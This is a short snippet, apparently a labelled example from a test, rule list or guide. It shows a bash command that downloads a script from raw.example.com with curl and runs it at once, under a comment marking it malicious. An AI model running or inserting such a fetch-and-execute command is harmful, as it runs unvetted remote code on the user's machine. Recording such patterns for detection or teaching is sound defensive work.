# malicious: runs what is downloaded
bash <(curl -s https://raw.example.com/x/main/run.sh)
